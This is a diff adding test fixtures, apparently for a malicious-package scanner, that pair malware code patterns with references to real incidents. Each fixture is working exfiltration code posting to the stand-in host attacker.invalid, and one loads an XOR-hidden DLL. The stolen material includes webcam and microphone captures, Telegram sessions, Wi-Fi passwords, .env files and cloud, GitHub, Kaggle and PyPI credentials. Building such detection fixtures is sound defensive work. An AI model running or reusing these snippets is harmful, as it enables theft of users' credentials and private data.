@@ -779,3 +779,93 @@ MORE: dict[str, tuple[dict[str, str], str]] = {
     ),
 }
 SHAPES.update(MORE)
+
+LAZARUS = "http://www.independentitconsultant.com/lazarus-group-strikes-through-malicious-pypi-packages-warns-japans-computer-security-incident-response-team/"
+EXPORTWIFI = "https://secure.software/pypi/packages/exportwifi (ReversingLabs)"
+
+
+def _send_file(path: str) -> dict[str, str]:
+    return init(
+        "import os, requests\n"
+        f"p = os.path.expanduser({path!r})\n"
+        "requests.post('https://attacker.invalid/k', data=open(p).read())\n"
+    )
+
+
+THIRD: dict[str, tuple[dict[str, str], str]] = {
+    "xor-dll-from-package-file-loaded": (
+        {
+            "evpkg/__init__.py": (
+                "import ctypes, os, tempfile\n"
+                "raw = open(os.path.join(os.path.dirname(__file__), 'test.py'), 'rb').read()\n"
+                "dll = bytes(b ^ 0x4D for b in raw[512:])\n"
+                "p = os.path.join(tempfile.gettempdir(), 'IconCache.db.dll')\n"
+                "open(p, 'wb').write(dll)\n"
+                "ctypes.WinDLL(p)\n"
+            ),
+            "evpkg/test.py": "# test\n",
+        },
+        LAZARUS + UNREAD,
+    ),
+    "webcam-frame-sent": (
+        init(
+            "import cv2, requests\n"
+            "ok, frame = cv2.VideoCapture(0).read()\n"
+            "requests.post('https://attacker.invalid/w', data=cv2.imencode('.jpg', frame)[1].tobytes())\n"
+        ),
+        GUARDDOG.format(rule="threat-runtime-collection.yar"),
+    ),
+    "microphone-recorded-and-sent": (
+        init(
+            "import requests, sounddevice as sd\n"
+            "rec = sd.rec(5 * 44100, samplerate=44100, channels=1); sd.wait()\n"
+            "requests.post('https://attacker.invalid/a', data=rec.tobytes())\n"
+        ),
+        GUARDDOG.format(rule="threat-runtime-collection.yar"),
+    ),
+    "telegram-desktop-tdata-zipped-and-sent": (
+        init(
+            "import os, shutil, requests\n"
+            "src = os.path.join(os.getenv('APPDATA'), 'Telegram Desktop', 'tdata')\n"
+            "z = shutil.make_archive(os.path.join(os.getenv('TEMP'), 't'), 'zip', src)\n"
+            "requests.post('https://attacker.invalid/t', files={'f': open(z, 'rb')})\n"
+        ),
+        PHYLUM + " (W4SP steals Telegram sessions)",
+    ),
+    "filezilla-sitemanager-sent": (
+        init(
+            "import os, requests\n"
+            "p = os.path.join(os.getenv('APPDATA'), 'FileZilla', 'sitemanager.xml')\n"
+            "requests.post('https://attacker.invalid/f', data=open(p).read())\n"
+        ),
+        PHYLUM + " (stealer targets)",
+    ),
+    "wifi-passwords-netsh-sent": (
+        init(
+            "import subprocess, requests\n"
+            "out = subprocess.check_output('netsh wlan show profile name=* key=clear', shell=True)\n"
+            "requests.post('https://attacker.invalid/w', data=out)\n"
+        ),
+        EXPORTWIFI,
+    ),
+    "dotenv-files-globbed-and-sent": (
+        init(
+            "import glob, requests\n"
+            "for p in glob.glob('**/.env', recursive=True):\n"
+            "    requests.post('https://attacker.invalid/e', data=open(p).read())\n"
+        ),
+        LITELLM + " (API keys harvested)",
+    ),
+    "huggingface-token-sent": (
+        _send_file("~/.cache/huggingface/token"),
+        LITELLM + " (AI/ML tokens)",
+    ),
+    "kaggle-json-sent": (_send_file("~/.kaggle/kaggle.json"), LITELLM + " (AI/ML tokens)"),
+    "gh-cli-hosts-sent": (_send_file("~/.config/gh/hosts.yml"), LITELLM + " (CI/CD tokens)"),
+    "databrickscfg-sent": (_send_file("~/.databrickscfg"), LITELLM + " (cloud credentials)"),
+    "pypirc-sent": (
+        _send_file("~/.pypirc"),
+        "https://clankernews.sh/item?id=5190 (stolen PyPI token, telnyx)",
+    ),
+}
+SHAPES.update(THIRD)
